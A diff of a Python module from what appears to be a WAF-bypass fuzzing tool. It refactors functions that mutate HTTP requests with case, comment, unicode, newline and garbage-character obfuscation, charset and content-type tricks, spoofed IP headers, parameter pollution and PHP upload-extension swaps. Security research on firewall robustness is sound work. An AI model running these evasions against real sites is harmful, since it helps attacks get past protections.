@@ -1,21 +1,26 @@
 from collections import Counter
-import copy
 import itertools
 import json
 import os
-import random
 import string 
-import re
 import urllib.parse
 import uuid
 from utils.logUtils import LoggerSingleton
 from utils.dictUtils import content_types
+from utils.prowler_segmented_body import SegmentedBody, padding_buffer, chunked_encoder
+from utils.prowler_request import cow_copy
+from utils.prowler_random import mutation_random as rng
+from utils.prowler_request_analysis import analyze, PART_CONTENT_TYPE
+from utils.prowler_applicability import Applicability, applicability_index, CONTENT_TYPE_MULTIPART
+from utils.prowler_obfuscation import variant_generator, random_case_variants, case_and_comment_variants, \
+    space_variants, unicode_normalize_variants, unicode_obfuscate_variants, newline_variants, tab_variants, \
+    garbage_character_variants
 
 logger = LoggerSingleton().get_logger()
 TAG = "prowler_mutant_methods.py: "
 
 
-def mutant_methods_modify_content_type_for_rl(headers, url, method, data, files):
+def mutant_methods_modify_content_type_for_rl(headers, url, method, data, files, analysis=None):
     logger.info(TAG + "==>mutant_methods_modify_content_type")
     logger.debug(TAG + "==>headers: " + str(headers))
     mutant_payloads = []
@@ -36,13 +41,13 @@ def mutant_methods_modify_content_type_for_rl(headers, url, method, data, files)
     return mutant_payloads
 
 
-def mutant_methods_modify_content_type(headers, url, method, data, files):
+def mutant_methods_modify_content_type(headers, url, method, data, files, analysis=None):
     logger.info(TAG + "==>mutant_methods_modify_content_type")
     logger.debug(TAG + "==>headers: " + str(headers))
     mutant_payloads = []
-    original_headers = copy.deepcopy(headers)
+    original_headers = cow_copy(headers)
     if 'Content-Type' in headers:
-        # use copy.deepcopy to avoid modifying the original headers
+        # use cow_copy to avoid modifying the original headers
         for content_type in content_types:
             headers['Content-Type'] += ';' + content_type
             mutant_payloads.append({
@@ -52,7 +57,7 @@ def mutant_methods_modify_content_type(headers, url, method, data, files):
                 'data': data,
                 'files': files
             })
-            headers = copy.deepcopy(original_headers)
+            headers = cow_copy(original_headers)
     else:
         for content_type in content_types:
             headers['Content-Type'] = ';' + content_type + ';'
@@ -63,23 +68,23 @@ def mutant_methods_modify_content_type(headers, url, method, data, files):
                 'data': data,
                 'files': files
             })
-            headers = copy.deepcopy(original_headers)
+            headers = cow_copy(original_headers)
     return mutant_payloads
 
 
-def mutant_methods_change_request_method(headers, url, method, data, files):
+def mutant_methods_change_request_method(headers, url, method, data, files, analysis=None):
     logger.info(TAG + "==>mutant_methods_change_request_method")
     logger.debug(TAG + "==>headers: " + str(headers))
     if method == 'GET':
         # 解析 URL 和查询参数
-        parsed_url = urllib.parse.urlparse(url)
-        get_params = urllib.parse.parse_qs(parsed_url.query)
+        analysis = analyze(headers, url, method, data, analysis)
+        parsed_url = analysis.parsed_url
         # add     "Content-Type": "application/x-www-form-urlencoded" to headers
         headers['Content-Type'] = 'application/x-www-form-urlencoded'
         # 构建新的 POST 请求
         post_url = f"{parsed_url.scheme}://{parsed_url.netloc}{parsed_url.path}"
         post_url = post_url.replace('get', 'post')
-        post_data = {k: v[0] for k, v in get_params.items()}  # 将查询参数变成 POST 数据
+        post_data = analysis.query_first_values()  # 将查询参数变成 POST 数据
         return headers, post_url, 'POST', post_data, files, True
     else:
         return headers, url, method, data, files, False
@@ -93,7 +98,7 @@ def mutant_methods_change_request_method(headers, url, method, data, files):
 # •application/json -json模式
 # 文件头的属性是传输前对提交的数据进行编码发送到服务器。其中 multipart/form-data 
 # 表示该数据被编码为一条消息,页上的每个控件对应消息中的一个部分。所以，当 waf 没有规则匹配该协议传输的数据时可被绕过。
-def mutant_methods_fake_content_type(headers, url, method, data, files):
+def mutant_methods_fake_content_type(headers, url, method, data, files, analysis=None):
     logger.info(TAG + "==>mutant_methods_fake_content_type")
     logger.debug(TAG + "==>headers: " + str(headers))
     mutant_payloads = []
@@ -113,14 +118,14 @@ def mutant_methods_fake_content_type(headers, url, method, data, files):
 
 def random_case(text):
     """Randomly changes the case of each character in the text."""
-    return ''.join([c.upper() if random.choice([True, False]) else c.lower() for c in text])
+    return ''.join([c.upper() if rng.choice([True, False]) else c.lower() for c in text])
 
 
 def insert_comments(text):
     """Insert random comments or spaces in the text to break up keywords."""
     parts = list(text)
     for i in range(1, len(parts) - 1):
-        if random.choice([True, False]):
+        if rng.choice([True, False]):
             parts[i] = '/*' + parts[i] + '*/'
     return ''.join(parts)
 
@@ -129,7 +134,7 @@ def insert_spaces(text):
     """Insert random comments or spaces in the text to break up keywords."""
     parts = list(text)
     for i in range(1, len(parts) - 1):
-        if random.choice([True, False]):
+        if rng.choice([True, False]):
             parts[i] = ' ' + parts[i]
     return ''.join(parts)
 
@@ -149,7 +154,7 @@ def unicode_normalize(payload):
         # 检查字符是否为 ASCII 字符
         if char.isascii():
             # 如果是 ASCII 字符,则使用 Unicode 编码进行替换
-            if random.choice([False, False, True, False, False]):
+            if rng.choice([False, False, True, False, False]):
                 normalized_payload += f"\\u{ord(char):04X}"
             else:
                 normalized_payload += char
@@ -213,8 +218,8 @@ def newline_bypass(payload):
     obfuscated_payload = ""
     for char in payload:
         obfuscated_payload += char
-        if char.isalnum() and random.choice([False, False, True]):
-            obfuscated_payload += newline_chars[random.randint(0, len(newline_chars) - 1)]
+        if char.isalnum() and rng.choice([False, False, True]):
+            obfuscated_payload += newline_chars[rng.randint(0, len(newline_chars) - 1)]
 
     return obfuscated_payload
 
@@ -235,8 +240,8 @@ def tab_bypass(payload):
     obfuscated_payload = ""
     for char in payload:
         obfuscated_payload += char
-        if char.isalnum() and random.choice([False, False, True]):
-            obfuscated_payload += newline_chars[random.randint(0, len(newline_chars) - 1)]
+        if char.isalnum() and rng.choice([False, False, True]):
+            obfuscated_payload += newline_chars[rng.randint(0, len(newline_chars) - 1)]
 
     return obfuscated_payload
 
@@ -258,156 +263,73 @@ def garbage_character_bypass(payload):
     obfuscated_payload = ""
     for char in payload:
         obfuscated_payload += char
-        if char.isalnum() and random.choice([False, False, True]):
-            num_garbage = random.randint(1, 10)
-            obfuscated_payload += "".join(random.choices(garbage_chars, k=num_garbage))
+        if char.isalnum() and rng.choice([False, False, True]):
+            num_garbage = rng.randint(1, 10)
+            obfuscated_payload += "".join(rng.choices(garbage_chars, k=num_garbage))
     return obfuscated_payload
 
 
-def mutant_methods_case_and_comment_obfuscation(headers, url, method, data, files):
-    logger.info(TAG + "==>mutant_methods_case_and_comment_obfuscation")
-    logger.debug(TAG + "==>headers: " + str(headers))
+def obfuscation_payloads(headers, url, method, data, files, analysis, variants_of, obfuscate_path=False):
+    """
+    用批量混淆函数 variants_of(text, k) 一次生成 k 个变异载荷(k 为 variant_generator.variants):
+    查询参数(obfuscate_path 时还有路径)、字符串请求体与文件名各取第 i 个变体组成第 i 个载荷。
+    """
+    k = variant_generator.variants
+    parsed_url = analyze(headers, url, method, data, analysis).parsed_url
+    paths = variants_of(parsed_url.path, k) if obfuscate_path else [parsed_url.path] * k
+    queries = variants_of(parsed_url.query, k)
+    mutated_data = variants_of(data, k) if isinstance(data, str) else [data] * k
+    filenames = {name: variants_of(filename, k) for name, (filename, file) in files.items()} if files else {}
 
     mutant_payloads = []
-
-    # Apply random case and comment obfuscation to the URL
-    parsed_url = urllib.parse.urlparse(url)
-    obfuscated_path = random_case(insert_comments(parsed_url.path))
-    obfuscated_query = random_case(insert_comments(parsed_url.query))
-    mutated_url = urllib.parse.urlunparse(parsed_url._replace(path=obfuscated_path, query=obfuscated_query))
-
-    # Apply the same to data if it's a string
-    mutated_data = data
-    if isinstance(data, str):
-        mutated_data = random_case(insert_comments(data))
-
-    # Apply the same to file names if present
-    mutated_files = files
-    if files:
-        mutated_files = {name: (random_case(insert_comments(filename)), file) for name, (filename, file) in
-                         files.items()}
-
-    # Create the mutated payload
-    mutant_payloads.append({
-        'headers': headers,
-        'url': mutated_url,
-        'method': method,
-        'data': mutated_data,
-        'files': mutated_files
-    })
-
+    for i in range(k):
+        mutant_payloads.append({
+            'headers': headers,
+            'url': urllib.parse.urlunparse(parsed_url._replace(path=paths[i], query=queries[i])),
+            'method': method,
+            'data': mutated_data[i],
+            'files': {name: (filenames[name][i], file) for name, (filename, file) in files.items()} if files else files
+        })
     return mutant_payloads
 
 
-def mutant_methods_space_obfuscation(headers, url, method, data, files):
-    logger.info(TAG + "==>mutant_methods_space_obfuscation")
+def mutant_methods_case_and_comment_obfuscation(headers, url, method, data, files, analysis=None):
+    logger.info(TAG + "==>mutant_methods_case_and_comment_obfuscation")
     logger.debug(TAG + "==>headers: " + str(headers))
+    # 路径、查询参数、请求体与文件名随机包注释并随机大小写
+    return obfuscation_payloads(headers, url, method, data, files, analysis, case_and_comment_variants,
+                                obfuscate_path=True)
 
-    mutant_payloads = []
-
-    # Apply random case and comment obfuscation to the URL
-    parsed_url = urllib.parse.urlparse(url)
-    # obfuscated_path = random_case(insert_spaces(parsed_url.path))
-    obfuscated_path = parsed_url.path
-    obfuscated_query = insert_spaces(parsed_url.query)
-
-    mutated_url = urllib.parse.urlunparse(parsed_url._replace(path=obfuscated_path, query=obfuscated_query))
-    # print(mutated_url)
-    # Apply the same to data if it's a string
-    mutated_data = data
-    if isinstance(data, str):
-        mutated_data = insert_spaces(data)
-
-    # Apply the same to file names if present
-    mutated_files = files
-    if files:
-        mutated_files = {name: (insert_spaces(filename), file) for name, (filename, file) in files.items()}
 
-    # Create the mutated payload
-    mutant_payloads.append({
-        'headers': headers,
-        'url': mutated_url,
-        'method': method,
-        'data': mutated_data,
-        'files': mutated_files
-    })
-    return mutant_payloads
+def mutant_methods_space_obfuscation(headers, url, method, data, files, analysis=None):
+    logger.info(TAG + "==>mutant_methods_space_obfuscation")
+    logger.debug(TAG + "==>headers: " + str(headers))
+    # 查询参数、请求体与文件名随机插入空格
+    return obfuscation_payloads(headers, url, method, data, files, analysis, space_variants)
 
 
-def mutant_methods_upper_obfuscation(headers, url, method, data, files):
+def mutant_methods_upper_obfuscation(headers, url, method, data, files, analysis=None):
     logger.info(TAG + "==>mutant_methods_upper_obfuscation")
     logger.debug(TAG + "==>headers: " + str(headers))
+    # 查询参数、请求体与文件名随机大小写
+    return obfuscation_payloads(headers, url, method, data, files, analysis, random_case_variants)
 
-    mutant_payloads = []
 
-    # Apply random case and comment obfuscation to the URL
-    parsed_url = urllib.parse.urlparse(url)
-    obfuscated_path = parsed_url.path
-    obfuscated_query = random_case(parsed_url.query)
-    mutated_url = urllib.parse.urlunparse(parsed_url._replace(path=obfuscated_path, query=obfuscated_query))
-
-    # Apply the same to data if it's a string
-    mutated_data = data
-    if isinstance(data, str):
-        mutated_data = random_case(data)
-
-    # Apply the same to file names if present
-    mutated_files = files
-    if files:
-        mutated_files = {name: (random_case(filename), file) for name, (filename, file) in files.items()}
-
-    # Create the mutated payload
-    mutant_payloads.append({
-        'headers': headers,
-        'url': mutated_url,
-        'method': method,
-        'data': mutated_data,
-        'files': mutated_files
-    })
-    return mutant_payloads
-
-
-def mutant_methods_unicode_obfuscation(headers, url, method, data, files):
+def mutant_methods_unicode_obfuscation(headers, url, method, data, files, analysis=None):
     logger.info(TAG + "==>mutant_methods_unicode_obfuscation")
     logger.debug(TAG + "==>headers: " + str(headers))
-
-    mutant_payloads = []
-
-    # Apply random case and comment obfuscation to the URL
-    parsed_url = urllib.parse.urlparse(url)
-    obfuscated_path = parsed_url.path
-    obfuscated_query = unicode_normalize(parsed_url.query)
-    mutated_url = urllib.parse.urlunparse(parsed_url._replace(path=obfuscated_path, query=obfuscated_query))
-
-    # Apply the same to data if it's a string
-    mutated_data = data
-    if isinstance(data, str):
-        mutated_data = unicode_normalize(data)
-
-    # Apply the same to file names if present
-    mutated_files = files
-    if files:
-        mutated_files = {name: (unicode_normalize(filename), file) for name, (filename, file) in files.items()}
-
-    # Create the mutated payload
-    mutant_payloads.append({
-        'headers': headers,
-        'url': mutated_url,
-        'method': method,
-        'data': mutated_data,
-        'files': mutated_files
-    })
-    return mutant_payloads
+    # 查询参数、请求体与文件名中的 ASCII 字符随机写成 \uXXXX
+    return obfuscation_payloads(headers, url, method, data, files, analysis, unicode_normalize_variants)
 
 
-def mutant_methods_html_obfuscation(headers, url, method, data, files):
+def mutant_methods_html_obfuscation(headers, url, method, data, files, analysis=None):
     logger.info(TAG + "==>mutant_methods_html_obfuscation")
     logger.debug(TAG + "==>headers: " + str(headers))
 
     mutant_payloads = []
 
     # Apply random case and comment obfuscation to the URL
-    parsed_url = urllib.parse.urlparse(url)
+    parsed_url = analyze(headers, url, method, data, analysis).parsed_url
     obfuscated_path = parsed_url.path
     obfuscated_query = html_entity_bypass(parsed_url.query)
     mutated_url = urllib.parse.urlunparse(parsed_url._replace(path=obfuscated_path, query=obfuscated_query))
@@ -433,14 +355,14 @@ def mutant_methods_html_obfuscation(headers, url, method, data, files):
     return mutant_payloads
 
 
-def mutant_methods_double_decode_obfuscation(headers, url, method, data, files):
+def mutant_methods_double_decode_obfuscation(headers, url, method, data, files, analysis=None):
     logger.info(TAG + "==>mutant_methods_double_decode_obfuscation")
     logger.debug(TAG + "==>headers: " + str(headers))
 
     mutant_payloads = []
 
     # Apply random case and comment obfuscation to the URL
-    parsed_url = urllib.parse.urlparse(url)
+    parsed_url = analyze(headers, url, method, data, analysis).parsed_url
     obfuscated_path = parsed_url.path
     obfuscated_query = double_encode(parsed_url.query)
     mutated_url = urllib.parse.urlunparse(parsed_url._replace(path=obfuscated_path, query=obfuscated_query))
@@ -466,107 +388,25 @@ def mutant_methods_double_decode_obfuscation(headers, url, method, data, files):
     return mutant_payloads
 
 
-def mutant_methods_newline_obfuscation(headers, url, method, data, files):
+def mutant_methods_newline_obfuscation(headers, url, method, data, files, analysis=None):
     logger.info(TAG + "==>mutant_methods_newline_obfuscation")
     logger.debug(TAG + "==>headers: " + str(headers))
+    # 查询参数、请求体与文件名中的字母数字后随机插入换行符
+    return obfuscation_payloads(headers, url, method, data, files, analysis, newline_variants)
 
-    mutant_payloads = []
-
-    # Apply random case and comment obfuscation to the URL
-    parsed_url = urllib.parse.urlparse(url)
-    obfuscated_path = parsed_url.path
-    obfuscated_query = newline_bypass(parsed_url.query)
-    mutated_url = urllib.parse.urlunparse(parsed_url._replace(path=obfuscated_path, query=obfuscated_query))
-    # print(obfuscated_query)
-    # input()
 
-    # Apply the same to data if it's a string
-    mutated_data = data
-    if isinstance(data, str):
-        mutated_data = newline_bypass(data)
-    # print(mutated_data)
-    # input()
-
-    # Apply the same to file names if present
-    mutated_files = files
-    if files:
-        mutated_files = {name: (newline_bypass(filename), file) for name, (filename, file) in files.items()}
-
-    # Create the mutated payload
-    mutant_payloads.append({
-        'headers': headers,
-        'url': mutated_url,
-        'method': method,
-        'data': mutated_data,
-        'files': mutated_files
-    })
-    return mutant_payloads
-
-
-def mutant_methods_tab_obfuscation(headers, url, method, data, files):
+def mutant_methods_tab_obfuscation(headers, url, method, data, files, analysis=None):
     logger.info(TAG + "==>mutant_methods_tab_obfuscation")
     logger.debug(TAG + "==>headers: " + str(headers))
-
-    mutant_payloads = []
-
-    # Apply random case and comment obfuscation to the URL
-    parsed_url = urllib.parse.urlparse(url)
-    obfuscated_path = parsed_url.path
-    obfuscated_query = tab_bypass(parsed_url.query)
-    mutated_url = urllib.parse.urlunparse(parsed_url._replace(path=obfuscated_path, query=obfuscated_query))
-
-    # Apply the same to data if it's a string
-    mutated_data = data
-    if isinstance(data, str):
-        mutated_data = tab_bypass(data)
-
-    # Apply the same to file names if present
-    mutated_files = files
-    if files:
-        mutated_files = {name: (tab_bypass(filename), file) for name, (filename, file) in files.items()}
-
-    # Create the mutated payload
-    mutant_payloads.append({
-        'headers': headers,
-        'url': mutated_url,
-        'method': method,
-        'data': mutated_data,
-        'files': mutated_files
-    })
-    return mutant_payloads
+    # 查询参数、请求体与文件名中的字母数字后随机插入制表符
+    return obfuscation_payloads(headers, url, method, data, files, analysis, tab_variants)
 
 
-def mutant_methods_garbage_character_obfuscation(headers, url, method, data, files):
+def mutant_methods_garbage_character_obfuscation(headers, url, method, data, files, analysis=None):
     logger.info(TAG + "==>mutant_methods_garbage_character_obfuscation")
     logger.debug(TAG + "==>headers: " + str(headers))
-
-    mutant_payloads = []
-
-    # Apply random case and comment obfuscation to the URL
-    parsed_url = urllib.parse.urlparse(url)
-    obfuscated_path = parsed_url.path
-    obfuscated_query = garbage_character_bypass(parsed_url.query)
-    mutated_url = urllib.parse.urlunparse(parsed_url._replace(path=obfuscated_path, query=obfuscated_query))
-
-    # Apply the same to data if it's a string
-    mutated_data = data
-    if isinstance(data, str):
-        mutated_data = garbage_character_bypass(data)
-
-    # Apply the same to file names if present
-    mutated_files = files
-    if files:
-        mutated_files = {name: (garbage_character_bypass(filename), file) for name, (filename, file) in files.items()}
-
-    # Create the mutated payload
-    mutant_payloads.append({
-        'headers': headers,
-        'url': mutated_url,
-        'method': method,
-        'data': mutated_data,
-        'files': mutated_files
-    })
-    return mutant_payloads
+    # 查询参数、请求体与文件名中的字母数字后随机插入垃圾字符
+    return obfuscation_payloads(headers, url, method, data, files, analysis, garbage_character_variants)
 
 
 def url_encode_payload(payload):
@@ -574,7 +414,7 @@ def url_encode_payload(payload):
     return urllib.parse.quote(payload, safe='/:&?=')
 
 
-def mutant_methods_url_encoding(headers, url, method, data, files):
+def mutant_methods_url_encoding(headers, url, method, data, files, analysis=None):
     logger.info(TAG + "==>mutant_methods_url_encoding")
     logger.debug(TAG + "==>headers: " + str(headers))
 
@@ -582,7 +422,7 @@ def mutant_methods_url_encoding(headers, url, method, data, files):
     mutant_payloads = []
 
     # URL encode only the query parameters or other parts of the URL
-    parsed_url = urllib.parse.urlparse(url)
+    parsed_url = analyze(headers, url, method, data, analysis).parsed_url
     encoded_query = urllib.parse.quote(parsed_url.query, safe='=&')
     encoded_path = urllib.parse.quote(parsed_url.path, safe='/')
     mutated_url = urllib.parse.urlunparse(parsed_url._replace(path=encoded_path, query=encoded_query))
@@ -614,18 +454,14 @@ def mutant_methods_url_encoding(headers, url, method, data, files):
     return mutant_payloads
 
 
-def mutant_upload_methods_double_equals(headers, url, method, data, files):
+def mutant_upload_methods_double_equals(headers, url, method, data, files, analysis=None):
     logger.info(TAG + "==>mutant_upload_methods_double_equals")
     logger.debug(TAG + "==>headers: " + str(headers))
-    if isinstance(data, bytes):
-
-        data_str = data.decode()
-    else:
-        data_str = data
+    analysis = analyze(headers, url, method, data, analysis)
+    data_str = analysis.text
     mutant_payloads = []
     # 只有 multipart/form-data 才需要可以使用这个方法
-    content_type = headers.get('Content-Type')
-    if content_type and re.match('multipart/form-data', content_type) or 'filename' in str(data):
+    if analysis.is_multipart or 'filename' in str(data):
         if 'filename' in data_str:
             data_str = data_str.replace('filename', 'filename=')
             mutant_payloads.append({
@@ -655,7 +491,7 @@ def unicode_obfuscate(text):
     """Helper function to encode ASCII characters into their Unicode equivalent."""
     obfuscated_text = ""
     for char in text:
-        if random.choice([True, False]):
+        if rng.choice([True, False]):
             # 50% chance to obfuscate each character
             obfuscated_text += '\\u{:04x}'.format(ord(char))
         else:
@@ -663,58 +499,32 @@ def unicode_obfuscate(text):
     return obfuscated_text
 
 
-def mutant_methods_unicode_normalization(headers, url, method, data, files):
+def mutant_methods_unicode_normalization(headers, url, method, data, files, analysis=None):
     logger.info(TAG + "==>mutant_methods_unicode_normalization")
     logger.debug(TAG + "==>headers: " + str(headers))
-
-    mutant_payloads = []
-
-    # Apply Unicode obfuscation to URL path and query
-    parsed_url = urllib.parse.urlparse(url)
-    obfuscated_path = unicode_obfuscate(parsed_url.path)
-    obfuscated_query = unicode_obfuscate(parsed_url.query)
-    mutated_url = urllib.parse.urlunparse(parsed_url._replace(path=obfuscated_path, query=obfuscated_query))
-
-    # Apply Unicode obfuscation to the data if it's a string
-    mutated_data = data
-    if isinstance(data, str):
-        mutated_data = unicode_obfuscate(data)
-
-    # Apply Unicode obfuscation to file names if present
-    mutated_files = files
-    if files:
-        mutated_files = {name: (unicode_obfuscate(filename), file) for name, (filename, file) in files.items()}
-
-    # Create the mutated payload
-    mutant_payloads.append({
-        'headers': headers,
-        'url': mutated_url,
-        'method': method,
-        'data': mutated_data,
-        'files': mutated_files
-    })
-
-    return mutant_payloads
+    # 路径、查询参数、请求体与文件名随机写成 \uxxxx
+    return obfuscation_payloads(headers, url, method, data, files, analysis, unicode_obfuscate_variants,
+                                obfuscate_path=True)
 
 
 def insert_line_breaks(text):
     """Helper function to insert CR/LF characters randomly in the text."""
     obfuscated_text = ""
     for char in text:
-        if random.choice([True, False]):
+        if rng.choice([True, False]):
             obfuscated_text += '%0A'  # LF (Line Feed)
         obfuscated_text += char
     return obfuscated_text
 
 
-def mutant_methods_line_breaks(headers, url, method, data, files):
+def mutant_methods_line_breaks(headers, url, method, data, files, analysis=None):
     logger.info(TAG + "==>mutant_methods_line_breaks")
     logger.debug(TAG + "==>headers: " + str(headers))
 
     mutant_payloads = []
 
     # Apply line breaks to URL path and query
-    parsed_url = urllib.parse.urlparse(url)
+    parsed_url = analyze(headers, url, method, data, analysis).parsed_url
     obfuscated_path = insert_line_breaks(parsed_url.path)
     obfuscated_query = insert_line_breaks(parsed_url.query)
     mutated_url = urllib.parse.urlunparse(parsed_url._replace(path=obfuscated_path, query=obfuscated_query))
@@ -745,11 +555,11 @@ def mutant_methods_line_breaks(headers, url, method, data, files):
     return mutant_payloads
 
 
-def mutant_methods_add_random_harmless_param(headers, url, method, data, files):
+def mutant_methods_add_random_harmless_param(headers, url, method, data, files, analysis=None):
     logger.info(TAG + "==>mutant_methods_add_random_harmless_param")
     # 生成随机参数名和值
-    param_name = ''.join(random.choices(string.ascii_lowercase, k=5))
-    param_value = ''.join(random.choices(string.ascii_lowercase, k=10))
+    param_name = ''.join(rng.choices(string.ascii_lowercase, k=5))
+    param_value = ''.join(rng.choices(string.ascii_lowercase, k=10))
     if method == 'GET':
         if '?' in url:
             url = url + f'&{param_name}={param_value}'
@@ -781,7 +591,7 @@ COMMON_USER_AGENTS = [
     "Mozilla/5.0 (compatible; Bingbot/2.0; +http://www.bing.com/bingbot.htm)"
 ]
 
-def mutant_methods_modify_user_agent(headers, url, method, data, files):
+def mutant_methods_modify_user_agent(headers, url, method, data, files, analysis=None):
     """ 修改请求头中的 User-Agent 为常见的浏览器或爬虫的 User-Agent """
     logger.info(TAG + "==>mutant_methods_modify_user_agent")
     mutant_payloads = []
@@ -790,7 +600,7 @@ def mutant_methods_modify_user_agent(headers, url, method, data, files):
     new_headers = headers.copy()
 
     # 随机选择一个 User-Agent
-    new_user_agent = random.choice(COMMON_USER_AGENTS)
+    new_user_agent = rng.choice(COMMON_USER_AGENTS)
     new_headers['User-Agent'] = new_user_agent
 
     mutant_payloads.append({
@@ -805,7 +615,7 @@ def mutant_methods_modify_user_agent(headers, url, method, data, files):
     return mutant_payloads
     
 
-def mutant_methods_for_test_use(headers, url, method, data, files):
+def mutant_methods_for_test_use(headers, url, method, data, files, analysis=None):
     logger.info(TAG + "==>mutant_methods_for_test_use")
     # logger.debug(TAG + "==>headers: " + str(headers))
 
@@ -834,7 +644,7 @@ def mutant_methods_for_test_use(headers, url, method, data, files):
     return mutant_payloads
 
 
-def mutant_methods_transform_SOAP(headers, url, method, data, files):
+def mutant_methods_transform_SOAP(headers, url, method, data, files, analysis=None):
     logger.info(TAG + "==>mutant_methods_transform_SOAP")
     # logger.debug(TAG + "==>headers: " + str(headers))
     # 构造SOAP请求的XML格式
@@ -853,7 +663,7 @@ def mutant_methods_transform_SOAP(headers, url, method, data, files):
         </soapenv:header>
     </soapenv:envelope>"""]
 
-    modified_headers = copy.deepcopy(headers)
+    modified_headers = cow_copy(headers)
     # print(modified_headers['Content-Type'])
     modified_headers["Content-Type"] = "application/octet-stream,text/xml"
 
@@ -863,14 +673,14 @@ def mutant_methods_transform_SOAP(headers, url, method, data, files):
         'headers': modified_headers,
         'url': url,
         'method': method,
-        'data': random.choice(soap_request),
+        'data': rng.choice(soap_request),
         'files': files
     })
     logger.debug(TAG + "==>mutant_payloads: " + str(mutant_payloads))
     return mutant_payloads
 
 
-def mutant_methods_change_extensions(headers, url, method, data, files):
+def mutant_methods_change_extensions(headers, url, method, data, files, analysis=None):
     """
     生成不同的 Content-Type 和字符集变体
 
@@ -881,7 +691,7 @@ def mutant_methods_change_extensions(headers, url, method, data, files):
     mutant_payloads = []
 
     valid_extensions = ['phtml', 'php', 'php3', 'php4', 'php5', 'inc', 'pHtml', 'pHp', 'pHp3', 'pHp4', 'pHp5', 'iNc']
-    extensions_choice = random.choice(valid_extensions)
+    extensions_choice = rng.choice(valid_extensions)
     if isinstance(data, bytes):
         data = data.decode('utf-8').replace('php', 'php5').encode('utf-8')
 
@@ -898,7 +708,7 @@ def mutant_methods_change_extensions(headers, url, method, data, files):
     return mutant_payloads
 
 
-def mutant_methods_change_charset(headers, url, method, data, files):
+def mutant_methods_change_charset(headers, url, method, data, files, analysis=None):
     """
     生成不同的 Content-Type 和字符集变体
 
@@ -928,12 +738,12 @@ def mutant_methods_change_charset(headers, url, method, data, files):
         # "multipart/form-data;  boundary = test-payloads-boundary ; charset=gb2312 ",
     ]
     weights = [0.58] + [0.07] * 6
-    content_type = random.choices(content_type_variations, weights=weights)[0]
+    content_type = rng.choices(content_type_variations, weights=weights)[0]
     content_type = content_type_variations[0]
-    # content_type=random.choice(content_type_variations)
+    # content_type=rng.choice(content_type_variations)
     # input()
     # 修改请求头中的 Content-Type
-    modified_headers = copy.deepcopy(headers)
+    modified_headers = cow_copy(headers)
     # print(modified_headers['Content-Type'])
     modified_headers['Content-Type'] = content_type
     # print(content_type)
@@ -952,7 +762,7 @@ def mutant_methods_change_charset(headers, url, method, data, files):
     return mutant_payloads
 
 
-def mutant_methods_add_accept_charset(headers, url, method, data, files):
+def mutant_methods_add_accept_charset(headers, url, method, data, files, analysis=None):
     """
     生成不同的 Content-Type 和字符集变体
 
@@ -976,9 +786,9 @@ def mutant_methods_add_accept_charset(headers, url, method, data, files):
     ]
 
     weights = [0.66] + [0.03] * 8
-    content_type = random.choices(charset_variations, weights=weights)[0]
+    content_type = rng.choices(charset_variations, weights=weights)[0]
     # 修改请求头中的 Content-Type
-    modified_headers = copy.deepcopy(headers)
+    modified_headers = cow_copy(headers)
     # print(modified_headers['Content-Type'])
     modified_headers['Accept-Charset'] = content_type
     # print(headers)
@@ -997,7 +807,7 @@ def mutant_methods_add_accept_charset(headers, url, method, data, files):
     return mutant_payloads
 
 
-def mutant_methods_fake_IP(headers, url, method, data, files):
+def mutant_methods_fake_IP(headers, url, method, data, files, analysis=None):
     """
     随机向headers中注入IP欺骗相关的头部信息
     
@@ -1027,17 +837,17 @@ def mutant_methods_fake_IP(headers, url, method, data, files):
     ]
 
     # 复制原始headers,避免修改原始对象
-    modified_headers = copy.deepcopy(headers)
+    modified_headers = cow_copy(headers)
 
     # 随机选择要添加的头部数量(1-3个)
-    num_headers_to_add = random.randint(1, 3)
+    num_headers_to_add = rng.randint(1, 3)
 
     # 随机选择要添加的头部
-    selected_headers = random.sample(ip_headers, num_headers_to_add)
+    selected_headers = rng.sample(ip_headers, num_headers_to_add)
 
     # 随机选择IP地址
     for header in selected_headers:
-        ip = random.choice(ip_addresses)
+        ip = rng.choice(ip_addresses)
         modified_headers[header] = ip
 
     mutant_payloads.append({
@@ -1054,7 +864,7 @@ def mutant_methods_fake_IP(headers, url, method, data, files):
     return mutant_payloads
 
 
-def mutant_methods_perameter_pollution_case1(headers, url, method, data, files):
+def mutant_methods_perameter_pollution_case1(headers, url, method, data, files, analysis=None):
     '''
     服务器使用最后收到的参数, WAF 只检查第一个参数。
     '''
@@ -1070,16 +880,14 @@ def mutant_methods_perameter_pollution_case1(headers, url, method, data, files):
         plt_data = ""
         if type(data) == str:
             if "=" in data:
-                no_poc = random.choice(["ls", "1", "1.jpg"])
-                pera = data.split("=")[0]
-                poc = data.split("=")[1]
+                no_poc = rng.choice(["ls", "1", "1.jpg"])
+                pera, poc = analyze(headers, url, method, data, analysis).split_body("=")[:2]
                 for _ in range(3):
                     plt_data += pera + "=" + no_poc + "\n"
                 plt_data += pera + "=" + poc
             if ":" in data:
-                no_poc = random.choice(["\"ls\"}", "\"1\"}", "\"1.jpg\"}"])
-                pera = data.split(":")[0]
-                poc = data.split(":")[1]
+                no_poc = rng.choice(["\"ls\"}", "\"1\"}", "\"1.jpg\"}"])
+                pera, poc = analyze(headers, url, method, data, analysis).split_body(":")[:2]
                 for _ in range(3):
                     plt_data += pera + ":" + no_poc + "\n"
                 plt_data += pera + ":" + poc
@@ -1094,9 +902,9 @@ def mutant_methods_perameter_pollution_case1(headers, url, method, data, files):
             'files': files
         })
     else:
-        parsed_url = urllib.parse.urlparse(url)
-        base_url = f"{parsed_url.scheme}://{parsed_url.netloc}{parsed_url.path}"
-        query_params = urllib.parse.parse_qs(parsed_url.query, keep_blank_values=True)
+        analysis = analyze(headers, url, method, data, analysis)
+        base_url = analysis.base_url
+        query_params = analysis.query_params
         # 为每个参数创建重复的测试用例
         for param, values in query_params.items():
             original_value = values[0]
@@ -1131,7 +939,7 @@ def mutant_methods_perameter_pollution_case1(headers, url, method, data, files):
     return mutant_payloads
 
 
-def mutant_methods_perameter_pollution_case2(headers, url, method, data, files):
+def mutant_methods_perameter_pollution_case2(headers, url, method, data, files, analysis=None):
     '''
     服务器将来自相似参数的值合并,WAF 会单独检查它们。
     '''
@@ -1144,10 +952,9 @@ def mutant_methods_perameter_pollution_case2(headers, url, method, data, files):
 
         if type(data) == str:
             if "=" in data:
-                pera = data.split("=")[0]
-                poc = data.split("=")[1]
-                point1 = random.randint(1, len(poc) - 2)
-                point2 = random.randint(point1 + 1, len(poc) - 1)
+                pera, poc = analyze(headers, url, method, data, analysis).split_body("=")[:2]
+                point1 = rng.randint(1, len(poc) - 2)
+                point2 = rng.randint(point1 + 1, len(poc) - 1)
